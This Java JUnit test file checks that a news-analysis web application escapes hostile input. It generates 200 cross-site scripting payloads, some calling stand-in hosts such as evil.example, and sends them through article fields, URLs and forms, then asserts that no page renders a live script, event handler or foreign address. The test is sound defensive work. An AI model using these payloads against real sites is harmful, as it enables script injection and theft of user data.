package org.readout.desk;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.readout.ledger.Decision;
import org.readout.ledger.search.FindingType;
import org.readout.model.*;

/**
 * Two hundred payloads through every field of articles, findings, decisions and addresses, and every view: none becomes an
 * element, an attribute or an address that runs.
 */
class XssTest {
    private static final List<String> RUNS = List.of(
            "alert(1)",
            "alert`1`",
            "fetch('//evil.example')",
            "eval(name)",
            "top.x=1",
            "import('//e.example')",
            "location='//evil.example'",
            "document.title='x'",
            "prompt()",
            "confirm`x`");
    private static final List<String> SHAPES = List.of(
            "<script>@</script>",
            "\"><script>@</script>",
            "'><svg onload=@>",
            "</title><script>@</script>",
            "</textarea><img src=x onerror=@>",
            "<img src=x onerror=\"@\">",
            "\" onmouseover=\"@",
            "' autofocus onfocus='@",
            "javascript:@",
            "JaVaScRiPt:@",
            "java\tscript:@",
            "data:text/html,<script>@</script>",
            "<iframe srcdoc=\"<script>@</script>\">",
            "<a href=javascript:@>x</a>",
            "<base href=//evil.example/>@",
            "<form action=javascript:@><button>",
            "<style>@import '//evil.example';</style>@",
            "<svg><a xlink:href=javascript:@>",
            "${@}${7*7}{{@}}",
            "--><!--<img src=x onerror=@>-->");
    private static final Set<String> ADDRESSES = Set.of(
            "href", "src", "action", "formaction", "hx-get", "hx-post", "data", "xlink:href", "srcdoc", "poster");

    private static List<String> payloads() {
        List<String> all = new ArrayList<>();
        SHAPES.forEach(shape -> RUNS.forEach(run -> all.add(shape.replace("@", run))));
        return all;
    }

    @Test
    void twoHundredPayloadsRunNowhere() throws Exception {
        List<String> payloads = payloads();
        assertThat(payloads).hasSize(200).doesNotHaveDuplicates();
        List<Findings> hostile = new ArrayList<>();
        for (int i = 0; i < payloads.size(); i++) {
            hostile.add(article(i, payloads.get(i)));
        }
        try (DemoDesk desk = new DemoDesk(hostile)) {
            Findings first = hostile.getFirst();
            for (String payload : payloads.subList(0, 40)) {
                desk.ledger()
                        .decide(Decision.about(
                                Decision.Action.REASSIGN,
                                first.article().id(),
                                FindingType.STATEMENT,
                                new Span(0, 3),
                                payload,
                                payload,
                                payload));
                desk.ledger().decide(Decision.merge(payload + "?", payload, payload + "!", payload));
            }
            Set<String> plain = elements(Jsoup.parse(desk.reader().get("/add").body()));
            List<String> paths = new ArrayList<>(List.of(
                    "/",
                    "/story",
                    "/story?version=1",
                    "/actors",
                    "/sources?outlet=x",
                    "/review",
                    "/search?type=statement&size=1000",
                    "/search?q=words&size=500",
                    "/search?type=event&size=500",
                    "/search?status=declined&size=500",
                    "/search?type=position&size=500"));
            for (int i = 0; i < payloads.size(); i++) {
                String p = Browserless.encode(payloads.get(i));
                switch (i % 5) {
                    case 0 -> paths.add("/article?id=" + Browserless.encode("id" + payloads.get(i)));
                    case 1 -> paths.add("/search?q=" + p + "&speaker=" + p + "&outlet=" + p + "&country=" + p);
                    case 2 -> paths.add("/actor?key=" + Browserless.encode("key" + payloads.get(i)));
                    case 3 -> paths.add("/pair?one=" + Browserless.encode("key" + payloads.get(i)) + "&other=ukr");
                    default -> paths.add("/search?from=" + p);
                }
                if (i % 10 == 0) {
                    paths.add("/story?id=" + p);
                    paths.add("/" + p);
                    paths.add("/story/state?id=&at=" + p);
                }
            }
            int carrying = 0;
            for (String path : paths) {
                String body = desk.reader().get(path).body();
                carrying += body.contains("alert") ? 1 : 0;
                check(path, Jsoup.parse(body), plain);
            }
            assertThat(carrying).as("pages that show a payload, escaped").isGreaterThan(20);
            Browserless reader = desk.reader();
            for (String payload : payloads.subList(0, 60)) {
                check(
                        "add " + payload,
                        Jsoup.parse(reader.post("/add", "text", "", "headline", payload)
                                .body()),
                        plain);
                check(
                        "decide " + payload,
                        Jsoup.parse(reader.post("/decide", "action", payload, "article", payload)
                                .body()),
                        plain);
            }
        }
    }

    /** An article that is a payload in every field. */
    private static Findings article(int number, String payload) {
        String flat = payload.replace('\t', ' ');
        String text = flat + "\n\n" + flat + " words " + number + " said " + flat + ".";
        int start = flat.length() + 2;
        Span sentence = new Span(start, text.length());
        Span who = new Span(start, start + flat.length());
        Article article = Article.builder(payload + ".txt", "text", text)
                .id("id" + payload)
                .headline(payload)
                .byline(List.of(payload))
                .dateline(payload)
                .outlet(payload)
                .wire(payload)
                .url(payload)
                .version(payload)
                .copyright(payload)
                .corrections(List.of(payload))
                .published(Published.on(java.time.LocalDate.of(2025, 6, 1 + number % 20), payload))
                .blocks(List.of(
                        new Block(new Span(0, flat.length()), Block.Kind.HEADLINE),
                        new Block(sentence, Block.Kind.PARAGRAPH)))
                .build();
        Actor actor = new Actor("key" + payload, payload, Actor.Kind.PERSON, payload, List.of(payload), payload, false);
        ActorMention mention = new ActorMention(payload, List.of(who), payload, actor);
        Actor state = new Actor("ukr", "Ukraine", Actor.Kind.STATE, "UKR", List.of(), null, true);
        ActorMention ukraine = new ActorMention("Ukraine", List.of(who), "Ukraine", state);
        Evidence evidence = new Evidence(article.id(), List.of(sentence), sentence);
        List<Why> why = List.of(new Why(payload, payload, payload));
        Hedge hedge = new Hedge(who, payload);
        Place place = new Place(payload, who, payload, payload);
        Time time = new Time(who, payload, Time.Type.DATE, payload, "2025-06-01", null, payload, null);
        Statement said = new Statement(
                "s1",
                new Statement.Source(mention, Statement.Anonymity.NAMED),
                List.of(who),
                List.of(sentence),
                Statement.Kind.DIRECT,
                mention,
                payload,
                time,
                hedge,
                null,
                evidence,
                why);
        Event event = new Event(
                "e1",
                EventType.AGREE,
                payload,
                List.of(payload),
                payload,
                List.of(mention),
                List.of(ukraine),
                List.of(who),
                Factuality.HAPPENED,
                time,
                place,
                "s1",
                "g1",
                evidence,
                why);
        Gathering gathering = new Gathering(
                "g1",
                payload,
                Gathering.Kind.TALKS,
                Gathering.State.PLANNED,
                time,
                place,
                List.of(mention),
                List.of(ukraine),
                evidence,
                why);
        Attendance attendance = new Attendance(
                "a1", mention, "g1", Attendance.Status.DECLINED, "s1", mention, article.date(), hedge, evidence, why);
        Position position = new Position(
                "p1",
                mention,
                payload,
                Position.Stance.DEMANDS,
                List.of(sentence),
                ukraine,
                time,
                "s1",
                null,
                evidence,
                why);
        return new Findings(
                article,
                List.of(new Span(0, flat.length()), sentence),
                List.of(said),
                List.of(event),
                List.of(gathering),
                List.of(attendance),
                List.of(position),
                List.of(time),
                List.of(),
                List.of());
    }

    private static Set<String> elements(Document page) {
        Set<String> names = new TreeSet<>(Set.of(
                "article",
                "blockquote",
                "figure",
                "figcaption",
                "time",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                "details",
                "summary",
                "section",
                "header",
                "ol",
                "ul",
                "li",
                "dl",
                "dt",
                "dd",
                "div",
                "h2",
                "h3",
                "h4",
                "code",
                "del",
                "meter",
                "output",
                "select",
                "option",
                "br",
                "b"));
        page.getAllElements().forEach(e -> names.add(e.normalName()));
        return names;
    }

    private static void check(String path, Document page, Set<String> elements) {
        for (Element e : page.getAllElements()) {
            assertThat(elements).as("%s: <%s>", path, e.normalName()).contains(e.normalName());
            if (e.normalName().equals("script")) {
                assertThat(e.attr("src")).as(path).matches("/files/[a-z0-9.]+");
                assertThat(e.data()).as(path).isEmpty();
            }
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as("%s: <%s %s>", path, e.normalName(), name)
                        .doesNotStartWith("on")
                        .isNotEqualTo("style");
                if (ADDRESSES.contains(name)) {
                    assertThat(a.getValue())
                            .as("%s: <%s %s>", path, e.normalName(), name)
                            .matches("[/#][^/].*|/|");
                }
            }
        }
    }
}
